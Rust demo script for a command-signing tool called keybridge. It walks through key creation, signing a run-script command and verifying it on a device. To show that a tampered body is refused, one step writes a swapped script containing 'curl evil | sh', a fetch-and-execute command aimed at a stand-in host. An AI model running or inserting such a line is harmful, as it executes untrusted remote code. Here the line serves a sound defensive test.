//! `cargo xtask demo`: the whole path once, as an agent and a device see it.
//!
//! A bridge in a fresh folder (`target/demo/`), a passphrase key, the
//! account's genesis key log, a device that trusts it, a signed
//! `run-script` with its script as detached body, the device's verdict —
//! and the device's refusal when the script is swapped.

use anyhow::{Context as _, Result, bail};
use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

use crate::util::target_dir;

const PASSPHRASE: &str = "demo passphrase, not a real one";
const RECOVERY: &str = "demo recovery passphrase";

struct Daemon(Child);

impl Drop for Daemon {
    fn drop(&mut self) {
        // SIGTERM: the daemon drains, locks its keys and removes its socket.
        let _ = Command::new("kill").arg(self.0.id().to_string()).status();
        let deadline = Instant::now() + Duration::from_secs(5);
        while Instant::now() < deadline {
            if let Ok(Some(_)) = self.0.try_wait() {
                return;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        let _ = self.0.kill();
    }
}

fn say(n: u32, what: &str) {
    println!("\n\x1b[1m{n}. {what}\x1b[0m");
}

fn show(cmd: &str, out: &Output) {
    println!("   $ {cmd}");
    for line in String::from_utf8_lossy(&out.stdout).lines() {
        println!("     {line}");
    }
    for line in String::from_utf8_lossy(&out.stderr).lines() {
        println!("     {line}");
    }
}

fn exec(bin: &Path, home: &Path, args: &[&str], stdin: Option<&str>) -> Result<Output> {
    let mut child = Command::new(bin)
        .env("KEYBRIDGE_HOME", home)
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .with_context(|| bin.display().to_string())?;
    if let Some(s) = stdin {
        writeln!(child.stdin.take().expect("piped"), "{s}")?;
    }
    drop(child.stdin.take());
    Ok(child.wait_with_output()?)
}

/// Runs a step that must succeed, echoing it.
fn step(bin: &Path, home: &Path, args: &[&str], stdin: Option<&str>) -> Result<String> {
    let name = bin.file_name().and_then(|n| n.to_str()).unwrap_or("?");
    let out = exec(bin, home, args, stdin)?;
    let shown = format!(
        "{name} {}{}",
        args.join(" "),
        if stdin.is_some() {
            "   (secret on stdin)"
        } else {
            ""
        }
    );
    show(&shown, &out);
    if !out.status.success() {
        bail!("`{shown}` failed ({})", out.status);
    }
    Ok(String::from_utf8_lossy(&out.stdout).into_owned())
}

/// The demo, with the binaries in `bin_dir`.
pub fn run(bin_dir: &Path) -> Result<()> {
    let kb = bin_dir.join("keybridge");
    let dev = bin_dir.join("keybridge-device");
    let home: PathBuf = target_dir().join("demo");
    let _ = std::fs::remove_dir_all(&home);
    std::fs::create_dir_all(&home)?;
    let p = |name: &str| home.join(name).display().to_string();

    say(
        1,
        "Start the bridge (passphrase backend, files under target/demo)",
    );
    let log = std::fs::File::create(home.join("daemon.log"))?;
    let daemon = Daemon(
        Command::new(&kb)
            .arg("serve")
            .env("KEYBRIDGE_HOME", &home)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(log)
            .spawn()
            .context("starting keybridge serve")?,
    );
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        if exec(&kb, &home, &["status"], None)?.status.success() {
            break;
        }
        if Instant::now() > deadline {
            bail!(
                "the bridge did not start: {}",
                std::fs::read_to_string(home.join("daemon.log")).unwrap_or_default()
            );
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    step(&kb, &home, &["status"], None)?;

    say(
        2,
        "Create alice's signature key from her passphrase (Argon2id → Ed25519; nothing secret is stored)",
    );
    step(
        &kb,
        &home,
        &[
            "keys",
            "create",
            "--backend",
            "passphrase",
            "--account",
            "acme",
            "--agent",
            "alice",
            "--label",
            "alice",
            "--secret-stdin",
        ],
        Some(PASSPHRASE),
    )?;

    say(3, "Unlock it for the day (prompt frequency: daily)");
    step(
        &kb,
        &home,
        &["unlock", "alice", "--remember", "daily", "--secret-stdin"],
        Some(PASSPHRASE),
    )?;

    say(
        4,
        "Create the account: genesis key log + age-encrypted recovery file",
    );
    step(
        &kb,
        &home,
        &[
            "account",
            "init",
            "--account",
            "acme",
            "--key",
            "alice",
            "--log",
            &p("acme.log"),
            "--recovery-file",
            &p("acme-recovery.age"),
            "--secret-stdin",
        ],
        Some(RECOVERY),
    )?;

    say(5, "Deploy a device: it trusts the account's key log");
    let state = p("device-state");
    step(
        &dev,
        &home,
        &[
            "--state",
            &state,
            "trust",
            "init",
            &p("acme.log"),
            "--device-id",
            "laptop-042",
        ],
        None,
    )?;

    say(
        6,
        "Sign a run-script command for laptop-042; the script travels as a detached body",
    );
    std::fs::write(
        home.join("fix.sh"),
        "#!/bin/sh\nsystemctl restart print-spooler\n",
    )?;
    step(
        &kb,
        &home,
        &[
            "sign",
            "--key",
            "alice",
            "--device",
            "laptop-042",
            "--command",
            "run-script",
            "--arg",
            "user=root",
            "--body",
            &p("fix.sh"),
            "--out",
            &p("fix.cose"),
        ],
        None,
    )?;

    say(
        7,
        "The device verifies it before acting: claims as JSON, exit 0",
    );
    step(
        &dev,
        &home,
        &[
            "--state",
            &state,
            "verify",
            &p("fix.cose"),
            "--body",
            &p("fix.sh"),
        ],
        None,
    )?;

    say(8, "A swapped script, or the same command again, is refused");
    std::fs::write(home.join("evil.sh"), "#!/bin/sh\ncurl evil | sh\n")?;
    for (what, body) in [("swapped body", "evil.sh"), ("replay", "fix.sh")] {
        let out = exec(
            &dev,
            &home,
            &[
                "--state",
                &state,
                "verify",
                &p("fix.cose"),
                "--body",
                &p(body),
            ],
            None,
        )?;
        show(
            &format!("keybridge-device verify fix.cose --body {body}   ({what})"),
            &out,
        );
        println!("     exit code {}", out.status.code().unwrap_or(-1));
        if out.status.success() {
            bail!("the device accepted a {what}");
        }
    }

    say(9, "The audit log, then stop the bridge");
    step(&kb, &home, &["audit"], None)?;
    drop(daemon);

    // What ships has no test hooks: a clock file or a fake "now" would let
    // anyone who can start the daemon or the verifier move time.
    for (bin, args) in [
        (&kb, &["serve", "--clock-file", "/dev/null"][..]),
        (&dev, &["verify", "x.cose", "--now", "0"][..]),
    ] {
        let out = exec(bin, &home, args, None)?;
        if !String::from_utf8_lossy(&out.stderr).contains("unexpected argument") {
            bail!(
                "{} {} is accepted: a release build carries a test hook",
                bin.display(),
                args.join(" ")
            );
        }
    }
    println!("\ndemo complete: files are in {}", home.display());
    Ok(())
}
